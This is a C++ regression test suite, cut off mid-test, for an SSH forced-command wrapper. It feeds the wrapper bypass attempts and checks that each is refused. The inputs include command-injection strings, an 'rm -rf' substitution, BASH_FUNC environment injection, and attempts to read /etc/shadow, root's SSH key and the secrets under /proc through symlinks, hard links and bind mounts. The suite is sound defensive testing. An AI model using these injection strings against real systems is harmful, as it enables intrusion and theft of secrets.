// SPDX-License-Identifier: Apache-2.0
// Regression tests for the bypass catalogue, docs/bypass-catalogue.md (entries A.1 to K.74): every
// attack that applies to this design, run against the built binary as sshd would run it, adapted to
// our model (no shell, typed argv, allowlisted options, a denylist that always wins). Test names
// carry the entry: A01 = section A, entry 1. The catalogue says for every entry which tests cover
// it, and for the entries without a test here (D.44, F.52, F.55, G.58, G.59, G.61, G.62, G.65,
// K.74, and the race of C.31) why, and where else they are covered.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

#include "tests/helpers/policies.h"
#include "tests/integration/harness.h"

namespace diag::testing {
namespace {

namespace fs = std::filesystem;

// Runs the wrapper like run_soc(), but with the file `stdin_path` on its standard input (what the client
// sends on the session channel).
RunResult run_soc_with_stdin(const std::string& policy_path, const std::string& request,
                             const std::string& stdin_path) {
    return run_process({DIAG_WRAPPER_BIN, "--policy", policy_path},
                       {"SSH_ORIGINAL_COMMAND=" + request, "PATH=/usr/bin:/bin"}, stdin_path);
}

std::string base64(const std::string& in) {
    static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        const unsigned v = (static_cast<unsigned>(static_cast<unsigned char>(in[i])) << 16u) |
                           (static_cast<unsigned>(static_cast<unsigned char>(in[i + 1])) << 8u) |
                           static_cast<unsigned>(static_cast<unsigned char>(in[i + 2]));
        for (int s = 18; s >= 0; s -= 6) {
            out += kAlphabet[(v >> static_cast<unsigned>(s)) & 63u];
        }
    }
    if (i < in.size()) {
        unsigned v = static_cast<unsigned>(static_cast<unsigned char>(in[i])) << 16u;
        if (i + 1 < in.size()) {
            v |= static_cast<unsigned>(static_cast<unsigned char>(in[i + 1])) << 8u;
        }
        out += kAlphabet[(v >> 18u) & 63u];
        out += kAlphabet[(v >> 12u) & 63u];
        out += i + 1 < in.size() ? kAlphabet[(v >> 6u) & 63u] : '=';
        out += '=';
    }
    return out;
}

// Every byte outside printable ASCII as \xNN, for failure messages.
std::string visible(const std::string& s) {
    std::string out;
    for (const char ch : s) {
        const auto c = static_cast<unsigned char>(ch);
        if (c < 0x20 || c >= 0x7f || c == '\\') {
            static constexpr char kHex[] = "0123456789abcdef";
            out += "\\x";
            out += kHex[c >> 4u];
            out += kHex[c & 15u];
        } else {
            out += ch;
        }
    }
    return out;
}

std::vector<std::string> lines_of(const std::string& s) {
    std::vector<std::string> out;
    size_t start = 0;
    while (start < s.size()) {
        size_t nl = s.find('\n', start);
        if (nl == std::string::npos) {
            nl = s.size();
        }
        out.push_back(s.substr(start, nl - start));
        start = nl + 1;
    }
    return out;
}

// Runs every request (once: EXPECT_DENIED evaluates its argument several times) and expects the
// same refusal for each. `reason` must be a string literal.
#define EXPECT_ALL_DENIED(policy_path, requests, reason)       \
    do {                                                       \
        for (const std::string& req_ : (requests)) {           \
            SCOPED_TRACE("request: " + visible(req_));         \
            const RunResult r_ = run_soc((policy_path), req_); \
            EXPECT_DENIED(r_, reason);                         \
        }                                                      \
    } while (0)

class PeersRegression : public WrapperFixture {
  protected:
    void SetUp() override {
        WrapperFixture::SetUp();
        if (IsSkipped() || HasFatalFailure()) {
            return;
        }
        pub_ = dir_ + "/pub";
        secret_ = dir_ + "/secret";
        canary_file_ = secret_ + "/canary.txt";
        readme_ = pub_ + "/readme.txt";
    }

    void TearDown() override { WrapperFixture::TearDown(); }

    // Commands as a site would plausibly allow them (tests/testdata/policies/cat.toml and
    // site_commands.toml) and the test-only probes (probes.toml), then `extra`.
    std::string commands(const std::string& extra = "") const {
        return policies::rules({"cat", "site_commands", "probes"}, {{"@PUB@", pub_}}) + extra;
    }

    // The standard policy: the fixture header (deny DIR/secret, /etc/shadow* ...) plus commands().
    std::string std_policy(const std::string& extra_commands = "", const std::string& extra_deny = "") {
        return write_policy(policy(commands(extra_commands), extra_deny));
    }

    static void symlink_or_fail(const std::string& target, const std::string& link) {
        ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0) << link << ": " << std::strerror(errno);
    }

    // mount --bind; false (and nothing mounted) if this environment does not allow it.

    // The child's environment, as printed by the envprobe rule, with the client's extra variables.
    std::set<std::string> child_env(const std::string& p, const std::vector<std::string>& client_env) {
        const RunResult r = run_soc(p, "envprobe", client_env);
        EXPECT_EQ(r.exit_code, 0) << r.err;
        const auto l = lines_of(r.out);
        return {l.begin(), l.end()};
    }

    // The decision records (event.action "decision"), one per request; allowed requests that ran
    // also leave an end record (event.action "end").
    std::vector<nlohmann::json> decisions() const {
        std::vector<nlohmann::json> out;
        for (auto& rec : audit_records()) {
            if (rec["event"]["action"] == "decision") {
                out.push_back(std::move(rec));
            }
        }
        return out;
    }

    std::vector<nlohmann::json> end_records() const {
        std::vector<nlohmann::json> out;
        for (auto& rec : audit_records()) {
            if (rec["event"]["action"] == "end") {
                out.push_back(std::move(rec));
            }
        }
        return out;
    }

    std::string pub_;
    std::string secret_;
    std::string canary_file_;
    std::string readme_;
};

// ---------------------------------------------------------------- A. shell metacharacters

TEST_F(PeersRegression, A01_UnanchoredRuleChainsSecondCommand) {
    const auto p = std_policy();
    // The peer's attack, verbatim, and with the second command aimed at the canary.
    for (const std::string& req :
         {std::string("ls /nonexistent; echo PWNED-unanchored"), "cat " + readme_ + "; cat " + canary_file_,
          "cat " + readme_ + ";cat " + canary_file_}) {
        SCOPED_TRACE(req);
        const auto r = run_soc(p, req);
        EXPECT_DENIED(r, "parse-metachar");
        EXPECT_EQ(r.out.find("PWNED"), std::string::npos);
    }
}

TEST_F(PeersRegression, A02_EmbeddedNewline) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"cat /var/log/none\necho PWNED-newline", "cat " + readme_ + "\ncat " + canary_file_,
                                  "cat " + readme_ + "\rcat " + canary_file_, "cat " + readme_ + "\r\n"}),
        "parse-control");
}

TEST_F(PeersRegression, A03_CommandSubstitution) {
    const auto p = std_policy();
    const std::string marker = pub_ + "/subst-ran";
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{
                          "cat /var/log/x $(echo PWNED-subst >&2)", "cat " + readme_ + " $(touch " + marker + ")",
                          "cat " + readme_ + " `touch " + marker + "`",
                          "cat \"" + readme_ + "$(touch " + marker + ")\"", "cat \"`touch " + marker + "`\""}),
                      "parse-metachar");
    EXPECT_FALSE(fs::exists(marker));
}

TEST_F(PeersRegression, A04_ChainingIsNotAFeature) {
    const auto p = std_policy();
    auto r = run_soc(p, "export text=test; echo $text");
    EXPECT_DENIED(r, "parse-metachar");
    // Without the metacharacters it is just an unknown command word.
    r = run_soc(p, "export text=test");
    EXPECT_DENIED(r, "unknown-command");
}

TEST_F(PeersRegression, A05_NegatedBracketRuleAmpersandAndTab) {
    const auto p = std_policy();
    auto r = run_soc(p, "echo foo&echo owned");
    EXPECT_DENIED(r, "parse-metachar");
    r = run_soc(p, "cat " + readme_ + "&cat " + canary_file_);
    EXPECT_DENIED(r, "parse-metachar");
    // The TAB variant: control bytes are refused before any other parsing.
    r = run_soc(p, "echo foo&\trm -rf $(printf \"\\x2f\")");
    EXPECT_DENIED(r, "parse-control");
}

TEST_F(PeersRegression, A06_QuotedCommandWordAfterList) {
    const auto p = std_policy();
    EXPECT_DENIED(run_soc(p, "cat " + readme_ + " && 'bash'"), "parse-metachar");
    EXPECT_DENIED(run_soc(p, "cat " + readme_ + " || 'bash'"), "pipe-syntax");  // an or-list is no pipeline
}

TEST_F(PeersRegression, A06_SubstitutionInsideDoubleQuotes) {
    const auto p = std_policy();
    auto r = run_soc(p, "cat \"$(bash 1>&2)\"");
    EXPECT_DENIED(r, "parse-metachar");
}

TEST_F(PeersRegression, A06_ControlCharactersBeyondNewline) {
    const auto p = std_policy();
    // Ctrl-V Ctrl-J (a literal LF), and the other control bytes that reopened lshell #148: VT, FF,
    // ESC, DEL, NUL-free C0 and the UTF-8-encoded C1 controls (NEL, CSI).
    std::vector<std::string> reqs;
    for (const std::string& cc :
         {std::string("\n"), std::string("\x0b"), std::string("\x0c"), std::string("\x1b"), std::string("\x7f"),
          std::string("\x01"), std::string("\xc2\x85"), std::string("\xc2\x9b")}) {
        reqs.push_back("cat" + cc + "bash");
    }
    EXPECT_ALL_DENIED(p, reqs, "parse-control");
}

TEST_F(PeersRegression, A06_QuoteConcatenationIsDequotedBeforeLookup) {
    const auto p = std_policy();
    // The shell would run `echo/1.sh`; we look up exactly that dequoted word, and it is no command.
    auto r = run_soc(p, "cat'/1.sh'");
    EXPECT_DENIED(r, "unknown-command");
    EXPECT_NE(r.err.find("'cat/1.sh'"), std::string::npos) << r.err;
    // Dequoting is the same for the check and the exec: a quoted command word is still `cat`, and
    // its path argument is still checked.
    r = run_soc(p, "c\"a\"t " + canary_file_);
    EXPECT_DENIED(r, "path-denied");
    r = run_soc(p, "'cat' '" + readme_ + "'");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "public-readme\n");
}

TEST_F(PeersRegression, A06_FunctionDefinitionGrammar) {
    const auto p = std_policy();
    auto r = run_soc(p, "echo () sh && echo");
    EXPECT_DENIED(r, "parse-metachar");
}

TEST_F(PeersRegression, A07_NestedExpansions) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"cat <(cat " + canary_file_ + ")", "cat $((1+1))", "cat ${x:=" + canary_file_ + "}",
                                  "cat `cat " + canary_file_ + "`", "export BASH_FUNC_ls%%='() { /bin/sh; }'; ls"}),
        "parse-metachar");
}

TEST_F(PeersRegression, A07_BashFuncAndBashEnvNeverReachTheChild) {
    const auto p = std_policy();
    const auto env =
        child_env(p, {"BASH_FUNC_ls%%=() { /bin/sh; }", "BASH_ENV=" + pub_ + "/evil.sh", "ENV=" + pub_ + "/evil.sh"});
    for (const auto& line : env) {
        EXPECT_EQ(line.rfind("BASH_FUNC_", 0), std::string::npos) << line;
        EXPECT_EQ(line.rfind("BASH_ENV=", 0), std::string::npos) << line;
        EXPECT_EQ(line.rfind("ENV=", 0), std::string::npos) << line;
    }
}

TEST_F(PeersRegression, A08_MetacharacterGateIsWholesale) {
    const auto p = std_policy();
    const std::string marker = pub_ + "/touched";
    auto r = run_soc(p, "ls $(touch " + marker + ")");
    EXPECT_DENIED(r, "parse-metachar");
    EXPECT_FALSE(fs::exists(marker));
    // Every shell-significant character outside quotes, one at a time.
    std::vector<std::string> reqs;
    for (const char c : std::string(";&<>`$(){}")) {
        reqs.push_back("cat " + readme_ + " " + std::string(1, c) + "x");
    }
    EXPECT_ALL_DENIED(p, reqs, "parse-metachar");
    // `|` starts a pipeline stage, which only a filter rule may fill (adr/0013).
    EXPECT_DENIED(run_soc(p, "cat " + readme_ + " |x"), "pipe-stage");
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"cat " + readme_ + "\nid", "cat " + readme_ + "\rid"}),
                      "parse-control");
    // Quoted or escaped they are plain bytes of one argument: grep searches for the literal text.
    r = run_soc(p, "grep 'a;b|c' " + readme_);
    EXPECT_EQ(r.exit_code, 1) << r.err;
    EXPECT_EQ(r.out, "");
    r = run_soc(p, "cat " + readme_ + "\\;id");
    EXPECT_DENIED(r, "path-not-found");
}

TEST_F(PeersRegression, A09_ElevationHiddenInSubstitution) {
    const auto p = std_policy();
    auto r = run_soc(p, "cat $(sudo id)");
    EXPECT_DENIED(r, "parse-metachar");
    r = run_soc(p, "cat \"$(sudo id)\"");
    EXPECT_DENIED(r, "parse-metachar");
}

TEST_F(PeersRegression, A10_CommandWordResolvedAtRunTime) {
    const auto p = std_policy();
    auto r = run_soc(p, "S=sudo");
    EXPECT_DENIED(r, "unknown-command");
    r = run_soc(p, "$S id");
    EXPECT_DENIED(r, "parse-metachar");
    r = run_soc(p, "\"$S\" id");
    EXPECT_DENIED(r, "parse-metachar");
}

TEST_F(PeersRegression, A11_QuoteRemovalAndUnbalancedQuotes) {
    const auto p = std_policy();
    for (const char* req : {"s\"u\"do id", "\\sudo id", "'sudo' id"}) {
        SCOPED_TRACE(req);
        const auto r = run_soc(p, req);
        EXPECT_DENIED(r, "unknown-command");
        EXPECT_NE(r.err.find("'sudo'"), std::string::npos) << r.err;
    }
    // One tokenizer for check and exec: an unbalanced quote is an error, never "one argument".
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"echo \"hi; sudo id", "cat '" + readme_, "cat \"" + readme_,
                                                "cat " + readme_ + "\\"}),
                      "parse-quote");
}

TEST_F(PeersRegression, A12_GlobsAndWordSplittingAreNeverApplied) {
    const auto p = std_policy();
    // The wrapper expands globs itself, only in path arguments, and every match is checked like a
    // typed path (adr/0014): a pattern into a denied directory stays refused.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"cat " + secret_ + "/*", "cat " + secret_ + "/canary.tx?",
                                                "cat " + secret_ + "/[c]anary.txt"}),
                      "path-denied");
    EXPECT_DENIED(run_soc(p, "status /etc/*"), "unknown-command");
    EXPECT_DENIED(run_soc(p, "cat ~root/.ssh/id_rsa"), "parse-metachar");
    // Quoted, a glob is a literal file name (which does not exist) ...
    auto r = run_soc(p, "cat '" + pub_ + "/read*'");
    EXPECT_DENIED(r, "path-not-found");
    // ... and a quoted space does not split one argument into two.
    r = run_soc(p, "cat '" + readme_ + " " + canary_file_ + "'");
    EXPECT_DENIED(r, "path-not-found");
    // Option injection into the target: not an allowed option of cat.
    r = run_soc(p, "cat -f /etc/shadow");
    EXPECT_DENIED(r, "unknown-option");
    r = run_soc(p, "cat /etc/shadow");
    EXPECT_DENIED(r, "path-denied");
}

TEST_F(PeersRegression, A13_CaptureResplittingCannotAddOperands) {
    const auto p = std_policy();
    // The extra operand is typed as a path and checked like the others.
    auto r = run_soc(p, "grep TOP " + canary_file_ + " " + readme_);
    EXPECT_DENIED(r, "path-denied");
    r = run_soc(p, "grep CANARY " + readme_ + " " + canary_file_);
    EXPECT_DENIED(r, "path-denied");
    // A quoted pattern with a space stays one argv element: grep searches readme for the whole text.
    r = run_soc(p, "grep 'CANARY " + canary_file_ + "' " + readme_);
    EXPECT_EQ(r.exit_code, 1) << r.err;
    EXPECT_EQ(r.out, "");
    const auto recs = decisions();
    ASSERT_EQ(recs.size(), 3u);
    const nlohmann::json want = {"/usr/bin/grep", "--", "CANARY " + canary_file_, readme_};
    EXPECT_EQ(recs[2]["process"]["args"], want) << recs[2].dump();
}

TEST_F(PeersRegression, A14_OversizedRequestIsCappedBeforeParsing) {
    const auto p = std_policy();
    auto r = run_soc(p, "cat " + std::string(9000, 'a'));
    EXPECT_DENIED(r, "parse-limit");
    r = run_soc(p, "cat " + std::string(100000, 'x'));
    EXPECT_DENIED(r, "parse-limit");
    std::string many = "cat";
    for (int i = 0; i < 65; ++i) {
        many += " " + readme_;
    }
    ASSERT_LT(many.size(), 8192u);
    r = run_soc(p, many);
    EXPECT_DENIED(r, "parse-limit");
    // One argument over 4096 bytes, the request itself under the cap.
    r = run_soc(p, "cat '" + std::string(5000, 'a') + "'");
    EXPECT_DENIED(r, "parse-limit");
}

// ---------------------------------------------------------------- B. matching weaknesses

TEST_F(PeersRegression, B15_UnanchoredMatchRunsWholeArgv) {
    const auto p = std_policy();
    auto r = run_soc(p, "/bin/sh -c id /usr/bin/uptime");
    EXPECT_DENIED(r, "unknown-command");
    // The allowed command word does not vouch for trailing words: uptime takes no arguments.
    r = run_soc(p, "uptime /bin/sh -c id");
    EXPECT_DENIED(r, "unknown-option");
    r = run_soc(p, "uptime sh id");
    EXPECT_DENIED(r, "positional-count");
}

TEST_F(PeersRegression, B16_PrefixRuleDoesNotVouchForTrailingArgs) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"tail -n 5 " + canary_file_, "head -n 5 " + canary_file_,
                                                "tail -n5 " + readme_ + " " + canary_file_}),
                      "path-denied");
}

TEST_F(PeersRegression, B17_WildcardCannotSpanWords) {
    const auto p = std_policy();
    auto r = run_soc(p, "cat " + readme_ + " /etc/shadow");
    EXPECT_DENIED(r, "path-denied");
    r = run_soc(p, "logcat " + readme_ + " /etc/hostname");
    EXPECT_DENIED(r, "path-outside-roots");
}

TEST_F(PeersRegression, B18_PathIsCanonicalizedBeforeChecks) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"logcat " + pub_ + "/../secret/canary.txt",
                                                "cat " + pub_ + "/sub/../../secret/canary.txt",
                                                "cat " + pub_ + "//..//secret/./canary.txt"}),
                      "path-denied");
    auto r = run_soc(p, "logcat " + pub_ + "/../../../etc/hostname");
    EXPECT_DENIED(r, "path-outside-roots");
    // A harmless dot-dot is fine, and the tool gets the canonical path.
    r = run_soc(p, "logcat " + pub_ + "/sub/../readme.txt");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "public-readme\n");
    EXPECT_EQ(decisions().back()["process"]["args"].back(), readme_);
}

TEST_F(PeersRegression, B19_CommandWordIsANameNeverAPath) {
    const auto p = std_policy();
    write(pub_ + "/userdel", "#!/bin/sh\necho ran\n", 0755);
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"./userdel", pub_ + "/userdel", "/usr/bin/cat " + readme_,
                                                "./cat " + readme_, "bin/cat " + readme_}),
                      "unknown-command");
}

TEST_F(PeersRegression, B20_ContainmentIsComponentWise) {
    fs::create_directories(dir_ + "/pubfiles");
    write(dir_ + "/pubfiles/x.txt", "outside\n", 0644);
    write(dir_ + "/secretary.txt", "not-secret\n", 0644);
    const auto p = std_policy();
    // roots = [DIR/pub] does not admit DIR/pubfiles ...
    auto r = run_soc(p, "logcat " + dir_ + "/pubfiles/x.txt");
    EXPECT_DENIED(r, "path-outside-roots");
    // ... and deny DIR/secret does not deny DIR/secretary.txt.
    r = run_soc(p, "cat " + dir_ + "/secretary.txt");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "not-secret\n");
}

TEST_F(PeersRegression, B21_TrailingNewlineBeforeEndAnchor) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"uptime\n", "uptime\r", "cat " + readme_ + "\n"}), "parse-control");
}

TEST_F(PeersRegression, B22_HardInputCapAndLinearMatching) {
    const auto p = std_policy();
    std::string big;
    while (big.size() < 120000) {
        big += "dd curl wget chown -R x ";
    }
    const auto t0 = std::chrono::steady_clock::now();
    auto r = run_soc(p, big);
    EXPECT_DENIED(r, "parse-limit");
    // A regex-typed argument with a nested quantifier, at the maximum argument size.
    r = run_soc(p, "redos " + std::string(4000, 'a') + "0");
    EXPECT_DENIED(r, "bad-value");
    const auto ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
    // Catastrophic backtracking would take hours at this size; the bound only has to tell
    // linear from exponential, not measure speed (benchmarks do that).
    EXPECT_LT(ms, 20000);
}

// ---------------------------------------------------------------- C. paths

TEST_F(PeersRegression, C23_BareWordSymlink) {
    symlink_or_fail(canary_file_, pub_ + "/passwdlink");
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"cat " + pub_ + "/passwdlink", "cat '" + pub_ + "/passwdlink'",
                                  "head -c 100 " + pub_ + "/passwdlink", "sort -- " + pub_ + "/passwdlink",
                                  // A bare relative word is resolved too (against /, the child's cwd).
                                  "cat " + pub_.substr(1) + "/passwdlink"}),
        "path-denied");
    // A bare word that names nothing under / is not found, never passed through unchecked.
    auto r = run_soc(p, "cat passwdlink");
    EXPECT_DENIED(r, "path-not-found");
}

TEST_F(PeersRegression, C24_PathAttachedToLongOption) {
    const auto p = std_policy();
    // Not in the allowlist, whole or abbreviated, attached or separate.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"sort --files0-from=" + canary_file_, "sort --files0=" + canary_file_,
                                                "sort --files0-from " + canary_file_}),
                      "unknown-option");
    // Where a long option does take a path, --opt=VAL is split and VAL is resolved and checked.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grepf --file=" + canary_file_ + " " + readme_,
                                                "grepf --file " + canary_file_ + " " + readme_}),
                      "path-denied");
    write(pub_ + "/patterns", "public\n", 0644);
    symlink_or_fail(pub_ + "/patterns", pub_ + "/patlink");
    auto r = run_soc(p, "grepf --file=" + pub_ + "/patlink " + readme_);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "public-readme\n");
    const nlohmann::json want = {"/usr/bin/grep", "--file=" + pub_ + "/patterns", "--", readme_};
    EXPECT_EQ(decisions().back()["process"]["args"], want);
}

TEST_F(PeersRegression, C25_PathAttachedToShortOption) {
    const auto p = std_policy();
    // grep's -f is not allowed at all: alone, attached, or inside a cluster.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grep -c -f" + canary_file_ + " probe " + readme_,
                                                "grep -cf" + canary_file_ + " probe " + readme_,
                                                "grep -c -f " + canary_file_ + " probe " + readme_}),
                      "unknown-option");
    // Where -f is a path option, the attached value is split off and checked.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grepf -c -f" + canary_file_ + " " + readme_,
                                                "grepf -cf" + canary_file_ + " " + readme_}),
                      "path-denied");
}

TEST_F(PeersRegression, C26_RecursionFollowingSymlinksIsNotAllowed) {
    symlink_or_fail(canary_file_, pub_ + "/passwdlink");
    symlink_or_fail(secret_, pub_ + "/dirlink");
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grep -R CANARY " + pub_, "grep --dereference-recursive CANARY " + pub_,
                                                "grep -rR CANARY " + pub_, "ls -L -R " + pub_, "ls -R " + pub_}),
                      "unknown-option");
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"find -L " + pub_, "find " + pub_ + " -follow"}), "unknown-option");
    // grep -r does not follow symlinks met during recursion: the canary stays out of the output.
    auto r = run_soc(p, "grep -r CANARY " + pub_);
    EXPECT_EQ(r.exit_code, 1) << r.err;
    EXPECT_EQ(r.out, "");
    EXPECT_EQ(r.err.find(canary_), std::string::npos);
    // A symlink given as the start of the recursion is resolved and checked like any path.
    r = run_soc(p, "grep -r CANARY " + pub_ + "/dirlink");
    EXPECT_DENIED(r, "path-denied");
}

TEST_F(PeersRegression, C26_RecursionReachesHardLinkOfDeniedFile) {
    // A hard link of the canary inside an allowed tree: the tree check must see it (same inode as a
    // denied object), or grep -r reads the secret.
    ASSERT_EQ(::link(canary_file_.c_str(), (pub_ + "/sub/hard.txt").c_str()), 0) << std::strerror(errno);
    const auto p = std_policy();
    auto r = run_soc(p, "grep -r CANARY " + pub_);
    EXPECT_DENIED(r, "path-tree-denied");
}

TEST_F(PeersRegression, C27_RecursiveReadOfDeniedDirectory) {
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"grep -r '' " + secret_ + "/sub", "grep -r '' " + secret_,
                                                "cat " + secret_ + "/sub"}),
                      "path-denied");
    // A tree that contains the denied directory.
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"grep -r '' " + dir_, "grep -r CANARY /tmp", "find " + dir_}),
                      "path-tree-denied");
}

TEST_F(PeersRegression, C28_DenyMeansNothingRuns) {
    const auto p = std_policy();
    // lshell printed "forbidden path" and then the output anyway. Here: nothing on stdout, exit 126.
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"find /proc", "find /", "find " + dir_ + " -name canary.txt"}),
                      "path-tree-denied");
    const auto recs = audit_records();
    ASSERT_EQ(recs.size(), 3u);
    for (const auto& rec : recs) {
        EXPECT_EQ(rec["diag"]["decision"], "deny");
        EXPECT_FALSE(rec["process"].contains("args")) << rec.dump();
    }
}

TEST_F(PeersRegression, C29_EveryArgumentIsTyped) {
    const auto p = std_policy();
    // Listing a denied directory reads it: refused even though ls only shows metadata.
    EXPECT_ALL_DENIED(
        p, (std::vector<std::string>{"ls " + secret_, "ls -l " + secret_ + "/sub", "ls -a " + secret_ + "/."}),
        "path-denied");
    // Metadata of a denied file is allowed (meta-path): its name and size, never its content.
    auto r = run_soc(p, "ls -l " + canary_file_);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_NE(r.out.find("canary.txt"), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find(canary_), std::string::npos);
    EXPECT_EQ(decisions().back()["diag"]["paths"][0]["metadata_only_denied"], secret_);
}

TEST_F(PeersRegression, C30_UnsafeRelativeSymlinkLeavesTheTree) {
    symlink_or_fail("../secret/canary.txt", pub_ + "/leak");
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"cat " + pub_ + "/leak", "logcat " + pub_ + "/leak"}),
                      "path-denied");
    auto r = run_soc(p, "rsync --server --sender -vlogDtpre.iLsfxCIvu --copy-unsafe-links . leak");
    EXPECT_DENIED(r, "unknown-command");
}

TEST_F(PeersRegression, C31_ToolGetsTheCanonicalPathNotTheInput) {
    // The race itself is not deterministic; the tests that run it are listed under C.31 in
    // docs/bypass-catalogue.md (Confinement.*DuringTheRequest*, SwappedPath.*). What is
    // deterministic here: symlinks are resolved by the wrapper and the tool never sees them.
    symlink_or_fail(readme_, pub_ + "/readmelink");
    symlink_or_fail(pub_ + "/readmelink", pub_ + "/sub/link2");
    const auto p = std_policy();
    auto r = run_soc(p, "cat " + pub_ + "/sub/link2");
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "public-readme\n");
    const auto rec = decisions().back();
    const nlohmann::json want = {"/usr/bin/cat", "--", readme_};
    EXPECT_EQ(rec["process"]["args"], want);
    const nlohmann::json hops = {pub_ + "/sub/link2", pub_ + "/readmelink"};
    EXPECT_EQ(rec["diag"]["paths"][0]["hops"], hops);
}

TEST_F(PeersRegression, C32_EverySymlinkHopIsChecked) {
    fs::create_directories(pub_ + "/x");
    symlink_or_fail(canary_file_, pub_ + "/x/file.txt");    // sudoedit CVE-2015-5602 shape
    symlink_or_fail(pub_ + "/x/file.txt", pub_ + "/hop1");  // chain: hop1 -> x/file.txt -> canary
    symlink_or_fail(secret_ + "/sub", pub_ + "/subdir");    // to a denied directory
    symlink_or_fail(readme_, secret_ + "/out");             // a hop through the denied dir
    const auto p = std_policy();
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"cat " + pub_ + "/x/file.txt", "cat " + pub_ + "/hop1",
                                                "cat " + pub_ + "/subdir/deep.txt", "cat " + secret_ + "/out",
                                                "head -n 1 " + pub_ + "/subdir/../canary.txt"}),
                      "path-denied");
}

TEST_F(PeersRegression, C32_HardLinkOfDeniedFile) {
    write(pub_ + "/denied-file.txt", canary_ + "-file\n", 0644);
    ASSERT_EQ(::link(canary_file_.c_str(), (pub_ + "/hard.txt").c_str()), 0) << std::strerror(errno);
    ASSERT_EQ(::link((pub_ + "/denied-file.txt").c_str(), (pub_ + "/hard2.txt").c_str()), 0) << std::strerror(errno);
    const auto p = std_policy("", ", \"" + pub_ + "/denied-file.txt\"");
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"cat " + pub_ + "/hard.txt", "cat " + pub_ + "/hard2.txt",
                                                "sort " + pub_ + "/hard.txt"}),
                      "path-denied");
}

TEST_F(PeersRegression, C32_BindMountOfDeniedDirectory) {
    fs::create_directories(pub_ + "/bind");
    write(pub_ + "/bindfile", "placeholder\n", 0644);
    if (!bind_mount(secret_, pub_ + "/bind")) {
        GTEST_SKIP() << "mount --bind not permitted here: " << std::strerror(errno);
    }
    if (!bind_mount(canary_file_, pub_ + "/bindfile")) {
        unmount_all();
        GTEST_SKIP() << "mount --bind of a file not permitted here: " << std::strerror(errno);
    }
    const auto p = std_policy();
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"cat " + pub_ + "/bind/canary.txt", "cat " + pub_ + "/bind/sub/deep.txt",
                                  "cat " + pub_ + "/bindfile", "ls " + pub_ + "/bind"}),
        "path-denied");
    // The alias inside an allowed tree makes the tree denied.
    EXPECT_ALL_DENIED(p, (std::vector<std::string>{"grep -r CANARY " + pub_, "find " + pub_}), "path-tree-denied");
    unmount_all();
}

TEST_F(PeersRegression, C32_ProcMagicLinks) {
    const auto p = std_policy();
    // /proc/PID/{root,cwd,exe} are not resolved by their text: refused, never followed.
    EXPECT_ALL_DENIED(p,
                      (std::vector<std::string>{"cat /proc/self/root" + canary_file_, "cat /proc/self/cwd/etc/hostname",
                                                "cat /proc/thread-self/root/etc/hostname", "cat /proc/self/exe",
                                                // ".." never leaves a literal self (name and object would part)
                                                "cat /proc/self/../1/environ", "cat /proc/thread-self/../../environ"}),
                      "path-magic-link");
    // fd links (also reached through /dev/fd and /dev/stdin) and the other built-in entries.
    EXPECT_ALL_DENIED(
        p,
        (std::vector<std::string>{"cat /proc/self/fd/0", "cat /dev/fd/0", "cat /dev/stdin", "cat /proc/self/environ",
                                  "cat /proc/1/environ", "cat /proc/1/task/1/environ", "cat /proc/self/mem",
                                  "ls /proc/self/fd", "ls -l /proc/1/map_files"}),
        "path-denied");
}

TEST_F(PeersRegression, C33_EnvironmentCannotAddOperands) {
    const auto p = std_policy();
    const std::vector<std::string> hostile = {"EDITOR=vim -- " + canary_file_, "VISUAL=vim -- " + canary_file_,
                                              "SUDO_EDITOR=vim -- " + canary_file_, "POSIXLY_CORRECT=1"};
    auto r = run_soc(p, "cat " + readme_, hostile);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "public-readme\n");
    for (const auto& line : child_env(p, hostile)) {
